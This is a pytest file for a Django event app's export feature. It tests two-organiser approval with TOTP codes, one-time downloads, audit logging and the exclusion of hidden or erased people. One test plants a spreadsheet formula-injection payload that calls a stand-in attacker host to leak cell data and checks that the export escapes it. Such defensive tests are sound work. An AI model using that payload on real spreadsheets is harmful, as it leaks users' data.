"""Exports under two keys: restricted fields need a fresh code, another organiser, and go once."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_otp.oath import totp

from defdays.accounts import services as accounts
from defdays.audit.models import AuditEvent
from defdays.exports import services
from defdays.exports.models import ExportRequest
from defdays.people.services import set_hidden
from defdays.registration import services as registration
from tests.conftest import sign_in

pytestmark = pytest.mark.django_db


def code_of(user) -> str:
    device = accounts.confirmed_totp_device(user)
    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"


@pytest.fixture
def organiser(make_user, edition):
    def make():
        user = make_user("organiser", edition=edition)
        client = sign_in(Client(), user)
        client.user = user
        return client

    return make


@pytest.fixture
def participant(make_user, edition):
    def make(public_name, **kwargs):
        user = make_user("defender", edition=edition, public_name=public_name, **kwargs)
        return registration.register(
            user, edition, "defender", days=[edition.main_day], code_of_conduct_version="1", photo_policy_version="1"
        )

    return make


def ask(client, columns, *, file_format="csv", code=""):
    return client.post(
        reverse("exports:index", kwargs={"year": 2013}),
        {"columns": columns, "file_format": file_format, "code": code},
    )


def download(client, export):
    return client.post(reverse("exports:download", kwargs={"year": 2013, "uid": export.uid}))


def approve(client, export, code):
    return client.post(
        reverse("exports:detail", kwargs={"year": 2013, "uid": export.uid}), {"code": code, "decision": "approve"}
    )


def test_restricted_export_approved_by_the_exporter_themselves_is_refused(organiser, participant):
    participant("Kestrel", email="kestrel@example.org")
    first = organiser()
    response = ask(first, ["public_name", "email"], code=code_of(first.user))
    assert response.status_code == 302
    export = ExportRequest.objects.get()
    assert export.restricted and export.approved_at is None
    # Nothing to download before a second key.
    assert download(first, export).status_code == 404
    response = approve(first, export, code_of(first.user))
    assert response.status_code == 400
    export.refresh_from_db()
    assert export.approved_at is None
    assert AuditEvent.objects.filter(action="export.refused", actor=first.user, detail__reason="own-request").exists()
    with pytest.raises(services.ExportRefused):
        services.approve_export(approver=first.user, edition=export.edition, uid=export.uid, code="000000")
    assert download(first, export).status_code == 404


def test_restricted_export_with_a_second_organiser_downloads_once_and_is_audited(organiser, participant):
    participant("Kestrel", email="kestrel@example.org")
    first, second = organiser(), organiser()
    assert ask(first, ["public_name", "email"], code="123").status_code == 400  # no current code, no request
    ask(first, ["public_name", "email"], code=code_of(first.user))
    export = ExportRequest.objects.get()
    # The URL carries a random id alone.
    url = reverse("exports:download", kwargs={"year": 2013, "uid": export.uid})
    assert "email" not in url and "Kestrel" not in url
    assert approve(second, export, "000000").status_code == 400  # the approver's own current code is needed too
    with time_machine.travel(timezone.now() + timedelta(seconds=5), tick=False):  # past django-otp's throttle
        assert approve(second, export, code_of(second.user)).status_code == 302
    assert download(second, export).status_code == 404  # only the requester downloads
    response = download(first, export)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["Kestrel", "kestrel@example.org"]
    assert download(first, export).status_code == 404  # the second download
    event = AuditEvent.objects.get(action="export.downloaded")
    assert event.actor == first.user
    assert event.detail["approved_by"] == second.user.pk
    assert event.detail["fields"] == ["public_name", "email"]


def test_export_without_restricted_fields_works_for_one_organiser(organiser, participant):
    participant("Kestrel")
    only = organiser()
    ask(only, ["public_name", "status"])  # no code asked for
    export = ExportRequest.objects.get()
    assert not export.restricted
    response = download(only, export)
    assert response.status_code == 200
    assert "Kestrel" in response.content.decode()
    assert download(only, export).status_code == 404


def test_a_field_outside_the_roles_ceiling_cannot_be_asked_for(organiser, participant):
    client = organiser()
    assert ask(client, ["public_name", "password"]).status_code == 400
    assert not ExportRequest.objects.exists()


def test_xlsx_cells_starting_with_a_formula_sign_are_escaped(organiser, participant):
    participant('=HYPERLINK("https://evil.example/?"&A2,"x")')
    client = organiser()
    ask(client, ["public_name", "role"], file_format="xlsx")
    response = download(client, ExportRequest.objects.get())
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == '\'=HYPERLINK("https://evil.example/?"&A2,"x")'
    assert cell.data_type == "s"


def test_hidden_and_erased_people_are_not_exported(organiser, participant):
    participant("Kestrel")
    hidden = participant("Hidden Heron")
    set_hidden(hidden.user, True, actor=hidden.user)
    gone = participant("Erased Egret")
    from defdays.people.services import erase

    erase(gone.user)
    client = organiser()
    ask(client, ["public_name"])
    text = download(client, ExportRequest.objects.get()).content.decode()
    assert "Kestrel" in text
    assert "Hidden Heron" not in text and "Erased Egret" not in text
